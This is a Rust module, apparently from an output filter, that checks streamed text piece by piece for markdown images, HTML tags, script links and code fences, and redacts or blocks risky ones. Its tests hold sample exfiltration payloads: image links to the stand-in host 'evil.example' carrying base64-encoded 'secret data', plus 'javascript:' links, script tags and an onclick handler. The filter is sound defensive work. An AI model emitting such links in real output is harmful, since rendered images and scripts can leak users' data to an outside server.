//! The same on a text that comes in pieces.
//!
//! Only what may still turn out to act waits: an image or a tag until it is closed, the address of a link until it is
//! clear that it runs nothing, code in backticks until it ends. Nothing waits beyond [`LONGEST`] bytes for an end.
//!
//! Promises: the same as [`super::find`] says of the whole text, however it is cut; but code in one or two backticks
//! that is longer than [`LONGEST`] is none.

use super::super::policy::{Action, TAKEN_OUT};
use super::{LONGEST, MarkupRule, SCHEMES, code, image, is_active, name, opens_tag, script_link, tag};

/// What is done about markup, and who is told of it.
pub struct Judging<'a> {
    /// What is done.
    pub action: Action,
    /// Where images may come from.
    pub hosts: &'a [String],
    /// Is told of each hit.
    pub found: &'a mut dyn FnMut(MarkupRule),
}

/// A text on its way.
#[derive(Default)]
pub struct Passage {
    held: String,
    /// The backticks of the fence that shows all that follows as code, when there is one.
    fence: usize,
}

impl Passage {
    /// Takes the next piece of the text, and appends what can pass to `out`.
    ///
    /// # Errors
    /// What the markup does, where it is blocked.
    pub fn push(
        &mut self,
        piece: &str,
        judging: &mut Judging<'_>,
        out: &mut String,
    ) -> Result<(), MarkupRule> {
        self.held.push_str(piece);
        self.advance(false, judging, out)
    }

    /// Appends what waited to `out`, for the text is complete.
    ///
    /// # Errors
    /// As for [`Self::push`].
    pub fn finish(&mut self, judging: &mut Judging<'_>, out: &mut String) -> Result<(), MarkupRule> {
        self.advance(true, judging, out)
    }

    /// Whether nothing waits.
    #[must_use]
    pub const fn is_empty(&self) -> bool {
        self.held.is_empty()
    }

    fn advance(
        &mut self,
        complete: bool,
        judging: &mut Judging<'_>,
        out: &mut String,
    ) -> Result<(), MarkupRule> {
        let held = std::mem::take(&mut self.held);
        let mut rest = held.as_str();
        while !rest.is_empty() {
            let passes = if self.fence > 0 {
                self.fenced(rest, complete)
            } else {
                rest.find(['!', '<', '`', ']']).unwrap_or(rest.len())
            };
            let (plain, mark) = rest.split_at_checked(passes).unwrap_or((rest, ""));
            out.push_str(plain);
            rest = mark;
            if self.fence > 0 {
                break;
            }
            if !rest.starts_with(['!', '<', '`', ']']) {
                continue;
            }
            if !complete && is_undecided(rest) {
                break;
            }
            let (hit, length) = self.judge(rest, judging.hosts);
            let (marked, after) = rest.split_at_checked(length).unwrap_or((rest, ""));
            if let Some(rule) = hit {
                (judging.found)(rule);
                if judging.action == Action::Block {
                    return Err(rule);
                }
            }
            let goes = hit.is_some() && judging.action == Action::Redact;
            out.push_str(if goes { TAKEN_OUT } else { marked });
            rest = after;
        }
        rest.clone_into(&mut self.held);
        Ok(())
    }

    /// How much passes within a fence: up to its end, of which a beginning waits.
    fn fenced(&mut self, rest: &str, complete: bool) -> usize {
        if let Some(end) = rest.find(&"`".repeat(self.fence)) {
            let end = end + self.fence;
            self.fence = 0;
            return end;
        }
        let ticks = rest.bytes().rev().take_while(|byte| *byte == b'`').count();
        if complete { rest.len() } else { rest.len() - ticks }
    }

    /// What a mark turns out to be, and how much of the text it decides.
    fn judge(&mut self, rest: &str, hosts: &[String]) -> (Option<MarkupRule>, usize) {
        let hit = match rest.as_bytes().first() {
            Some(b'`') => {
                let ticks = ticks(rest);
                if ticks >= 3 {
                    self.fence = ticks;
                    return (None, ticks);
                }
                return (None, code(rest));
            }
            Some(b'<') => tag(rest, hosts),
            Some(b'!') => image(rest, hosts),
            _ => script_link(rest),
        };
        hit.map_or((None, 1), |(rule, length)| (Some(rule), length))
    }
}

fn ticks(rest: &str) -> usize {
    rest.bytes().take_while(|byte| *byte == b'`').count()
}

/// Whether more text may change what the mark at the beginning is.
fn is_undecided(rest: &str) -> bool {
    let awaits = |text: &str, end: &[char]| text.len() < LONGEST && !text.contains(end);
    match rest.as_bytes() {
        [b'`', ..] => {
            let ticks = ticks(rest);
            let body = rest.get(ticks..).unwrap_or_default();
            let fence = rest.get(..ticks).unwrap_or_default();
            body.is_empty() || (ticks < 3 && body.len() < LONGEST && !body.contains(fence))
        }
        [_] => true,
        [b'<', ..] => {
            if !opens_tag(rest) {
                return false;
            }
            let Some(end) = rest.find('>') else { return rest.len() < LONGEST };
            // The content of a script goes with it.
            let name = name(rest);
            let body = rest.get(end + 1..).unwrap_or_default();
            end < LONGEST && is_active(name) && body.len() < LONGEST && !is_closed(body, name)
        }
        [b'!', b'[', ..] => match rest.get(2..).and_then(|label| label.split_once("](")) {
            Some((label, address)) => label.len() < LONGEST && awaits(address, &[')', '\n']),
            None => rest.len() < LONGEST + 2,
        },
        [b']', b'(', ..] => {
            let address = rest.get(2..).unwrap_or_default();
            let start = address.trim_start().to_ascii_lowercase();
            let runs = |scheme: &&str| scheme.starts_with(&*start) || start.starts_with(*scheme);
            SCHEMES.iter().any(runs) && awaits(address, &[')', '\n'])
        }
        _ => false,
    }
}

/// Whether the end tag of an element is there, with the letter after its name.
fn is_closed(body: &str, name: &str) -> bool {
    let close = format!("</{name}").to_ascii_lowercase();
    let end = body.to_ascii_lowercase().find(&close);
    end.is_some_and(|end| end + close.len() < body.len())
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::find;
    use super::*;

    /// What passes of a text in pieces, and how often something was found.
    fn streamed(pieces: &[&str], action: Action) -> Result<(String, usize), MarkupRule> {
        let (mut passage, mut out, mut count) = (Passage::default(), String::new(), 0);
        let hosts = ["cdn.example".to_owned()];
        let mut judging = Judging { action, hosts: &hosts, found: &mut |_| count += 1 };
        for piece in pieces {
            passage.push(piece, &mut judging, &mut out)?;
        }
        passage.finish(&mut judging, &mut out)?;
        Ok((out, count))
    }

    fn whole(text: &str) -> (String, usize) {
        let hits = find(text, &["cdn.example".to_owned()]);
        let (mut out, mut at) = (String::new(), 0);
        for hit in &hits {
            out += text.get(at..hit.place.start).unwrap();
            out += TAKEN_OUT;
            at = hit.place.end;
        }
        (out + text.get(at..).unwrap(), hits.len())
    }

    #[test]
    fn nothing_of_an_image_passes_before_it_is_closed() {
        let pieces = ["See !", "[a](https://evil.example/p?d=c2VjcmV0", "IGRhdGE", ") there"];
        assert_eq!(streamed(&pieces, Action::Redact), Ok(("See [removed] there".to_owned(), 1)));
        assert_eq!(streamed(&pieces, Action::Block), Err(MarkupRule::ImageLink));
        assert_eq!(streamed(&pieces, Action::Observe), Ok((pieces.concat(), 1)));
    }

    #[test]
    fn what_is_no_markup_does_not_wait() {
        let mut out = String::new();
        let mut judging = Judging { action: Action::Redact, hosts: &[], found: &mut |_| {} };
        let mut passage = Passage::default();
        let text = "Is 1 < 2? Yes! [x] and [link](https://example.com";
        passage.push(text, &mut judging, &mut out).unwrap();
        assert_eq!(out, text);
        let fence = "\n```html\n<script>x()</script>\n";
        passage.push(fence, &mut judging, &mut out).unwrap();
        assert_eq!(out, text.to_owned() + fence, "a fence shows code");
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

        #[test]
        fn a_stream_is_judged_as_the_whole_text_is(
            parts in prop::collection::vec(prop_oneof![
                Just("![a](https://evil.example/p?d=c2VjcmV0IGRhdGE)"), Just("![a](https://cdn.example/p?d=c2VjcmV0IGRhdGE)"),
                Just("<img src=\"https://evil.example/p?d=c2VjcmV0IGRhdGE\">"), Just("<script>"), Just("</script>"),
                Just("</b>"), Just("]("), Just("javascript:x()"), Just("java"), Just(")"), Just("`"), Just("``"), Just("```"),
                Just("!"), Just("["), Just("<"), Just(">"), Just("<a onclick=x()>"), Just("é "), Just("\n"), Just("word "),
            ], 0..14),
            size in 1_usize..9,
        ) {
            let text = parts.concat();
            let letters: Vec<char> = text.chars().collect();
            let pieces: Vec<String> = letters.chunks(size).map(|piece| piece.iter().collect()).collect();
            let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
            prop_assert_eq!(streamed(&pieces, Action::Redact), Ok(whole(&text)));
        }
    }
}
